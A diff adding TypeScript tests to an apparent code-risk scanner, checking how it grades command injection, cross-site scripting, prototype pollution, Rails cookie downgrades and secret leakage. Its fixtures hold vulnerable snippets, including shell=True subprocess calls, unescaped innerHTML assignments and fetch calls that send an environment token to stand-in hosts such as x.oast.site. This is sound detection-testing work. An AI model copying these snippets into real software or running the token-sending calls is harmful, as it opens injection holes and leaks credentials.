@@ -187,3 +187,109 @@ test('what a template makes that is no page has no attributes', async () => {
   );
   assert.equal(await weigh('template-unescaped', 'a.jinja', 'Hello {{ name | safe }}\n'), 'high');
 });
+
+test('a command that moves is the old one, whatever its variables are called', async () => {
+  const py = (after: string, before: string, head = ''): Promise<string> =>
+    weigh(
+      'command-injection',
+      'src/a.py',
+      `import subprocess\nimport requests\n${head}class A:\n    def stop(self, given):\n${after}`,
+      `import subprocess\nimport requests\n${head}class A:\n    def stop_all(self, given):\n${before}`,
+    );
+  const old =
+    '        for i in self.ids:\n            subprocess.check_call(f"gmsaas instances stop {i}", shell=True)\n';
+  const now = (name: string, of: string): string =>
+    `        try:\n            pass\n        finally:\n            pass\n        ${of}\n        subprocess.check_call(f"gmsaas instances stop {${name}}", shell=True)\n`;
+  assert.equal(await py(now('one', 'one = self.ids[0]'), old), '-');
+  assert.equal(await py(now('one', 'one = requests.get(self.url).text'), old), 'high', 'from the network now');
+  assert.equal(await py(now('given', 'pass'), old), 'high', 'handed in now');
+  assert.equal(await py(now('one', 'one = self.ids[0]').replace('stop {', 'delete {'), old), 'high', 'another command');
+  assert.equal(
+    await py(
+      now('one', 'one = self.ids[0]'),
+      old.replace(', shell=True', '').replace('f"', '["a", f"').replace('}"', '}"]'),
+    ),
+    'high',
+    'no shell before',
+  );
+});
+
+test('a pattern that is looked for starts no program', async () => {
+  const js = (code: string): Promise<string> => weigh('command-injection', 'src/a.js', `${code}\n`);
+  assert.equal(
+    await js('function f(e) { let a = 1, r = /\\n/g, o; while ((o = r.exec(e.buffer))) a++; return a; }'),
+    '-',
+  );
+  assert.equal(await js("const r = require('child_process');\nfunction f(x) { r.exec(`git ${x}`); }"), 'high');
+  assert.equal(await js("const { exec } = require('child_process');\nfunction f(x) { exec(`git ${x}`); }"), 'high');
+});
+
+test('markup that is copied within a page is not new to it', async () => {
+  const js = (code: string): Promise<string> =>
+    weigh('cross-site-scripting', 'src/a.ts', `export function f(data, node) {\n${code}\n}\n`);
+  assert.equal(
+    await js(
+      "  const box = document.getElementById('a');\n  const copy = document.createElement('div');\n  copy.innerHTML = box.innerHTML;",
+    ),
+    '-',
+  );
+  assert.equal(
+    await js('  document.title = 1;\n  out.innerHTML = node.innerHTML;'),
+    'medium',
+    'an element that is not known',
+  );
+  assert.equal(
+    await js(
+      "  const doc = new DOMParser().parseFromString(data, 'text/html');\n  out.innerHTML = doc.body.innerHTML;",
+    ),
+    'high',
+  );
+  assert.equal(
+    await js("  const t = document.createElement('div');\n  t.textContent = data;\n  out.innerHTML = t.innerHTML;"),
+    'high',
+  );
+  assert.equal(await js('  out.innerHTML = data.html;'), 'high');
+  assert.equal(
+    await js("  const box = document.getElementById('a');\n  out.innerHTML = box.textContent;"),
+    'high',
+    'decoded',
+  );
+  assert.equal(
+    await js("  const box = document.getElementById('a');\n  out.innerHTML = box.innerHTML + data;"),
+    'high',
+  );
+});
+
+test('what a build tool made is read by nobody, but for what is made on purpose', async () => {
+  const line = `var a=1;${'b();'.repeat(400)}`;
+  const walk = 'function set(o,path,v){for(const p of path.split("."))o=o[p];o[path.split(".")[0]]=v}';
+  const bundle = (path: string, text: string): Promise<string> => weigh('prototype-pollution', path, text);
+  const merge =
+    'function merge(to,from){for(const k in from){if(typeof from[k]=="object")merge(to[k],from[k]);else to[k]=from[k]}}';
+  assert.ok(walk);
+  assert.equal(await bundle('public/build/assets/app-CAu7CSvV.js', `${line}${merge}\n`), '-');
+  assert.equal(await bundle('public/app.js', `${line}${merge}\n`), 'high', 'no place of a build tool');
+  assert.equal(await bundle('public/build/assets/app-CAu7CSvV.js', `${merge}\n`), 'high', 'written by hand');
+});
+
+test('a secret that goes to the own service in an address may be logged, elsewhere it is stolen', async () => {
+  const js = (to: string): Promise<string> =>
+    weigh('malicious-behaviour', 'src/a.ts', `export async function f(id) {\n  await fetch(${to});\n}\n`);
+  const token = '${process.env.REVALIDATE_TOKEN}';
+  assert.equal(await js(`\`\${process.env.NEXTAUTH_URL}/api/revalidate?secret=${token}&id=\${id}\``), 'medium');
+  assert.equal(await js(`\`https://x.oast.site/?d=${token}\``), 'high');
+  assert.equal(await js(`\`https://x.example/?d=${token}\``), 'high');
+  assert.equal(await js('`${process.env.NEXTAUTH_URL}/a?s=${process.env.A_TOKEN}&t=${process.env.B_SECRET}`'), 'high');
+});
+
+test('cookies of Rails: one step up is no step down', async () => {
+  const rb = (kind: string, before: string | null): Promise<string> => {
+    const text = (k: string): string =>
+      `# Cookies\nRails.application.config.action_dispatch.cookies_serializer = :${k}\n`;
+    return weigh('web-protection-off', 'config/initializers/c.rb', text(kind), before && text(before));
+  };
+  assert.equal(await rb('hybrid', 'marshal'), '-');
+  assert.notEqual(await rb('marshal', 'hybrid'), '-');
+  assert.notEqual(await rb('hybrid', 'json'), '-');
+  assert.notEqual(await rb('marshal', null), '-');
+});
